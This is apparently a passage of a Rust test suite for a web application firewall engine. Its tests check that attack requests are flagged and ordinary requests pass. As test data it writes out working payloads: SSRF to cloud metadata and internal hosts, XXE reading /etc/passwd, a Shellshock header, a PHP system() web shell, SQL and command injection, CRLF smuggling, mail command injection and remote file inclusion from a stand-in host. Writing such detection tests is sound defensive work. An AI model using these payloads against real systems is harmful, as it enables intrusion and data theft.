    assert_attack(query("a=GET%20http://x.example/%20HTTP/1.1"), "crlf"); // a request line
    assert_attack(query("url=localhost%3A2375%2Fcontainers"), "ssrf");
    assert_clean(query("q=localhost"));
    assert_attack(form("x=%0D%0AQUIT%0D%0A"), "mail_injection"); // an SMTP command
    assert_attack(
        json(r#"{"user": {"$gt": ""}, "password": {"$gt": ""}}"#),
        "nosqli",
    );
    assert_attack(query("user=*)(uid%3D*))(%7C(uid%3D*"), "ldapi");
    assert_attack(query("x=%3C!--%23exec%20cmd%3D%22id%22--%3E"), "ssi");
    assert_attack(
        query("url=http://169.254.169.254/latest/meta-data/"),
        "ssrf",
    );
    assert_attack(query("url=http://2130706433/admin"), "ssrf");
    assert_attack(query("url=http://%5B::ffff:127.0.0.1%5D/"), "ssrf");
    // Spellings URL parsers accept: one slash or none after a web scheme, an IPv6 zone,
    // circled characters and ideographic full stops (IDNA maps them), the host after the
    // last `@` when parsers disagree where the authority ends, cluster-internal names.
    for url in [
        "url=http:3232235777",
        "url=https:/0x7f000001/",
        "url=http://%5Bfe80::1%25eth0%5D/",
        "url=http://%E2%91%A0%E2%91%A1%E2%91%A6.%E2%93%AA.%E2%93%AA.%E2%91%A0/",
        "url=http://10%E3%80%820%E3%80%820%E3%80%821/",
        "url=http://a.example:80%20%26@a.example:80%23%20@10.0.0.7:22/",
        "url=redis.cache.svc.cluster.local:6379/",
    ] {
        assert_attack(query(url), "ssrf");
    }
    assert_clean(query("next=http:%2F%2Fshop.example%2Fcart"));
    assert_clean(query("note=%E2%91%A0%20first%20step"));
    // IMAP and POP3 commands on a line of their own, in a parameter a mail session reads.
    for body in [
        "msg=hi%0D%0AX7%20FETCH%201:5%20BODY[]",
        "msg=hi%0D%0Ab2%20select%20INBOX",
        "msg=hi%0D%0AQ1%20SEARCH%20UNSEEN",
        "msg=hi%0D%0ADELE%2012",
    ] {
        assert_attack(form(body), "mail_injection");
    }
    assert_clean(form(
        "msg=Shopping%0D%0AI%20list%20things%20I%20need%0D%0AI%20search%20for%20deals%0D%0Atop%20picks%20today",
    ));
    // PHP calls through variables with index chains and expressions as names.
    for q in [
        "x=%24%7B%27f%27%7D(2)",
        "x=%24__%5B_%5D%7B_%7D%5B%40_%5D(3)",
    ] {
        assert_attack(query(q), "php_injection");
    }
    // A command spelled out in variables and put together where it runs.
    assert_attack(
        form("run=x1%3Dw%3Bx2%3Dh%3Bx3%3Do%3Bx4%3Dami%3B%24x1%24x2%24x3%24x4"),
        "cmdi",
    );
    assert_clean(form("css=a%3D1%3Bb%3D2%3Bc%3D3%3Btotal%3D%24a"));
    // Perl's `@{[ … ]}` runs code inside an interpolated string.
    assert_attack(
        query("name=%40%7B%5Bsystem%20%27uname%27%5D%7D"),
        "perl_injection",
    );
    assert_attack(
        query("name=%40%7B%20%20%5B%20localtime%20%5D%20%7D"),
        "perl_injection",
    );
    assert_clean(query("email=team%40%7Bexample%7D.org"));
    assert_attack(query("next=%0d%0aSet-Cookie:%20session%3Devil"), "crlf");
    assert_attack(
        form("email=a%40example.com%0aBcc:%20victims%40example.org"),
        "mail_injection",
    );
    let xxe = Request {
        method: "POST".into(),
        path: "/import".into(),
        headers: vec![("Content-Type".into(), "application/xml".into())],
        body: r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#.into(),
        ..Request::default()
    };
    assert_attack(xxe, "xxe");
    let mut scan = query("");
    scan.headers.push((
        "User-Agent".into(),
        "sqlmap/1.7.2#stable (https://sqlmap.org)".into(),
    ));
    assert_attack(scan, "scanner");
}

fn xml(body: &str) -> Request {
    Request {
        method: "POST".into(),
        path: "/soap".into(),
        headers: vec![("Content-Type".into(), "text/xml; charset=utf-8".into())],
        body: body.into(),
        ..Request::default()
    }
}

#[test]
fn xml_documents_are_judged_by_their_values_and_what_markup_can_do() {
    // Ordinary documents: a declaration, namespaces, a feed's `<link>`, entities, CDATA.
    assert_clean(xml(
        r#"<?xml version="1.0" encoding="UTF-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetPrice xmlns="http://example.com/stock"><Item>Apples &amp; Pears</Item><Note>It's 5 -- cheap; order now</Note></GetPrice></soap:Body></soap:Envelope>"#,
    ));
    assert_clean(xml(
        r#"<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="feed.xsl"?><rss version="2.0"><channel><title>Where's the beef?</title><link>https://example.com/a?id=1&amp;b=2</link><description><![CDATA[<p>Hello <b>world</b></p>]]></description></channel></rss>"#,
    ));
    // Injections in its values, as in any parameter.
    for (body, category) in [
        (
            r#"<order><id>1' union select password from users--</id></order>"#,
            "sqli",
        ),
        (
            r#"<order note="x;cat /etc/passwd"><id>1</id></order>"#,
            "cmdi",
        ),
        (
            r#"<a><b><![CDATA[<script>alert(1)</script>]]></b></a>"#,
            "xss",
        ),
        (r#"<a><b>ja&amp;tab;vascript:alert(1)</b></a>"#, "xss"), // entities resolved first
        // What markup alone does: entities, external schemas, processing instructions,
        // script elements and event handlers.
        (
            r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#,
            "xxe",
        ),
        (
            r#"<x xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://203.0.113.9/s.xsd"/>"#,
            "xxe",
        ),
        (
            r#"<?xml version="1.0"?><r><?php system($_GET['c']); ?></r>"#,
            "php_injection",
        ),
        (
            r#"<r><x:script xmlns:x="http://www.w3.org/1999/xhtml">go()</x:script></r>"#,
            "xss",
        ),
        (
            r#"<svg xmlns="http://www.w3.org/2000/svg" onload="go()"/>"#,
            "xss",
        ),
        // Not well-formed: the body is one value, judged as text.
        ("<img src=x onerror=alert(1)>", "xss"),
    ] {
        assert_attack(xml(body), category);
    }
}

#[test]
fn ordinary_requests_pass() {
    let mut browser = query("q=winter%20boots&page=2&sort=price_asc");
    browser.headers.extend([
        (
            "User-Agent".into(),
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36".into(),
        ),
        ("Referer".into(), "https://shop.example/search?q=boots".into()),
        ("Cookie".into(), "session=4f19b6a2c0; theme=dark".into()),
        (
            "Sec-Ch-Ua".into(),
            r#""Chromium";v="131", "Not_A Brand";v="24""#.into(),
        ),
    ]);
    assert_clean(browser);
    assert_clean(json(
        r#"{"name": "Widget", "tags": ["a", "b"], "price": 12.5, "notes": "Ships in 2-3 days; no returns after 30 days."}"#,
    ));
    assert_clean(form(
        "email=jane%40example.com&message=Hello%21+Can+you+call+me+at+555-0100%3F",
    ));
    assert_clean(json(
        r#"{"user.name": "Alice", "settings.theme": "dark", "note": "I love java.and coffee"}"#,
    ));
    assert_clean(query(
        "url=https://www.example.org/page&callback=https://203.0.113.5/hook",
    ));
    // An error text with labelled lines, a link to a page with parameters, and a header
    // in Link syntax.
    assert_clean(form(
        "error_description=Sign-in%20failed.%0D%0ATrace%20ID%3A%207f3a%0D%0ATimestamp%3A%202026-12-03%0D%0AStatus%3A%20500",
    ));
    assert_clean(query(
        "ref=https://forum.example/plugin.php%3Fid%3Dinfo:index",
    ));
    let mut linked = query("a=1");
    linked.headers.push((
        "Intervention".into(),
        "<https://www.example.org/feature/1>; level=\"warning\"".into(),
    ));
    assert_clean(linked);
    // Their attack forms are still caught.
    assert_attack(form("next=%2F%0D%0ASet-Cookie%3A%20sid%3D1"), "crlf");
    assert_attack(
        form("next=%2F%0D%0AX-Forwarded-Host%3A%20evil.example"),
        "crlf",
    );
    assert_attack(query("page=http://198.51.100.7/shell.txt%3F"), "rfi");
    assert_attack(query("page=http://198.51.100.7/x.php"), "rfi");
    assert_attack(query("u=ja%26Tab%3Bvascript%3A"), "xss"); // a scheme split by an entity
}

#[test]
fn limits_are_findings_not_crashes() {
    let deep = format!("{}1{}", "[".repeat(500), "]".repeat(500));
    let v = Engine::default().inspect(&json(&deep));
    assert!(v.exceeded.contains(&"JSON depth"), "{:?}", v.exceeded);
    let many: String = (0..5000).map(|i| format!("p{i}=v&")).collect();
    let v = Engine::default().inspect(&query(&many));
    assert!(v.exceeded.contains(&"parameter count"));
    // An XML body with more values than the bound, under elements with long names.
    let name = "n".repeat(100);
    let items = format!("<{name} x='1'>v</{name}>").repeat(3000);
    let v = Engine::default().inspect(&xml(&format!("<{name}>{items}</{name}>")));
    assert!(v.exceeded.contains(&"parameter count"), "{:?}", v.exceeded);
    let big = "a".repeat(3 << 20);
    let v = Engine::default().inspect(&form(&format!("x={big}")));
    assert!(v.exceeded.contains(&"body size"));
    // Invalid encodings of every kind decode to something, never panic.
    for q in [
        "%",
        "%zz",
        "%u12",
        "%c0",
        "%e0%80",
        "&#xffffffff;",
        "\\u{110000}",
    ] {
        Engine::default().inspect(&query(q));
    }
}

#[test]
fn remembered_clean_headers_never_hide_an_attack_in_a_header() {
    let engine = Engine::default();
    let with_agent = |agent: &str| Request {
        headers: vec![("User-Agent".into(), agent.into())],
        ..query("q=shoes")
    };
    let browser = with_agent("Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Firefox/128.0");
    let shellshock = with_agent("() { :; }; /bin/bash -c 'cat /etc/passwd'");
    for _ in 0..3 {
        assert!(!engine.inspect(&browser).is_attack());
        let v = engine.inspect(&shellshock);
        assert!(v.is_attack(), "{:?}", v.hits);
    }
    // A value found clean in one header is inspected again in another: `id` is a note in
    // `X-Note` and a command line as the User-Agent, even later in the same request.
    let noted = Request {
        headers: vec![("X-Note".into(), "id".into())],
        ..query("q=shoes")
    };
    assert!(!engine.inspect(&noted).is_attack());
    assert!(engine.inspect(&with_agent("id")).is_attack());
    let both = with_headers(
        query("q=shoes"),
        &[("X-Note", "uname"), ("User-Agent", "uname")],
    );
    assert!(engine.inspect(&both).is_attack());
    // The same engine still inspects the other values of a request whose headers it knows.
    let v = engine.inspect(&Request {
        query: "q=1'+union+select+password+from+users--".into(),
        ..browser.clone()
    });
    assert!(v.is_attack());
}

fn with_headers(mut request: Request, headers: &[(&str, &str)]) -> Request {
    request
        .headers
        .extend(headers.iter().map(|(n, v)| (n.to_string(), v.to_string())));
    request
}

#[test]
fn protocol_abuse() {
    let get = query("q=shoes");
    let cases = [
        Request {
            method: "REALLYLONGUNREALMETHOD".into(),
            ..get.clone()
        },
        with_headers(get.clone(), &[("Range", "bytes=0-1,2-3,4-5,6-7,8-9,10-11")]),
        with_headers(get.clone(), &[("Range", "bytes=5-0")]),
        with_headers(get.clone(), &[("Request-Range", "bytes=0-1023")]),
        with_headers(get.clone(), &[("Proxy", "http://203.0.113.9:8080")]),
        with_headers(get.clone(), &[("X-HTTP-Method-Override", "DELETE")]),
        with_headers(get.clone(), &[("Connection", "close, close")]),
        query("_method=DELETE"),
        query("file=a%00.php"),
        query("p=%c0%af%c0%afetc"),
        query("p=foo%uFF01"),
        Request {
            path: "/index.php~".into(),
            ..get.clone()
        },
        Request {
            path: "/foo%0Abar".into(),
            ..get.clone()
        },
        Request {
            headers: vec![("Content-Type".into(), "application/foo".into())],
            ..form("a=b")
        },
        Request {
            headers: vec![(
                "Content-Type".into(),
                "application/x-www-form-urlencoded; charset=utf-7".into(),
            )],
            ..form("a=b")
        },
        Request {
            headers: vec![(
                "Content-Type".into(),
                "%{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}"
                    .into(),
            )],
            ..form("a=b")
        },
        Request {
            headers: vec![(
                "Content-Type".into(),
                "application/x-www-form-urlencoded;boundary=\"application/json\"".into(),
            )],
            ..form("a=b")
        },
        Request {
            headers: vec![(
                "Content-Type".into(),
                "multipart/form-data; boundary=b".into(),
            )],
            ..form("--b\r\nContent-Disposition: form-data; name=\"fi;le\"\r\n\r\nx\r\n--b--\r\n")
        },
        form("param=%1G"),
        form("testarg=%5Cu0061lert"), // an ASCII letter written as an escape
        query("parameter%0D%0A=test"), // a line break in a parameter name
        Request {
            path: "/index.php~/foo".into(),
            ..get.clone()
        },
        Request {
            path: "/%e5%98%8dSet-cookie:crlf=injection".into(), // U+560D: a CR cut to one byte
            ..get.clone()
        },
    ];
    for request in cases {
        let v = Engine::default().inspect(&request);
        assert!(
            v.hits.iter().any(|f| f.hit.category.as_str() == "protocol") && v.is_attack(),
            "protocol abuse expected for {request:?}, got {:?}",
            v.hits
        );
    }
    // A session id in a link from another site (fixation); from the site itself, fine.
    let planted = with_headers(
        query("jsessionid=74B0CB414BD77D17B5680A6386EF1666"),
        &[("Referer", "http://attacker.example/")],
    );
    assert_attack(planted, "session_fixation");
    let rewritten = with_headers(
        query("jsessionid=74B0CB414BD77D17B5680A6386EF1666"),
        &[("Referer", "http://shop.example/cart")],
    );
    assert_clean(rewritten);
}

#[test]
fn ordinary_protocol_use_is_clean() {
    let get = query("q=shoes");
    for request in [
        with_headers(get.clone(), &[("Range", "bytes=0-1023")]),
        with_headers(get.clone(), &[("Connection", "keep-alive")]),
        query("_method=shoes"),
        query("sessionId=8d40be1e-afd4-422c-89d5-5542c0045bd7"),
        query("name=J%C3%BCrgen"),
        Request {
            method: "PROPFIND".into(),
            ..get.clone()
        },
        Request {
            headers: vec![("Content-Type".into(), "application/problem+json".into())],
            ..json(r#"{"a":1}"#)
        },
        Request {
            headers: vec![("Content-Type".into(), "application/x-protobuf".into())],
            ..form("binary")
        },
        Request {
            headers: vec![(
                "Content-Type".into(),
                "multipart/form-data; boundary=b".into(),
            )],
            ..form(
                "--b\r\nContent-Disposition: form-data; name=\"caf&eacute;\"; filename=\"menu.pdf\"\r\n\r\nx\r\n--b--\r\n",
            )
        },
        form("discount=50%25"),
    ] {
        assert_clean(request);
    }
}
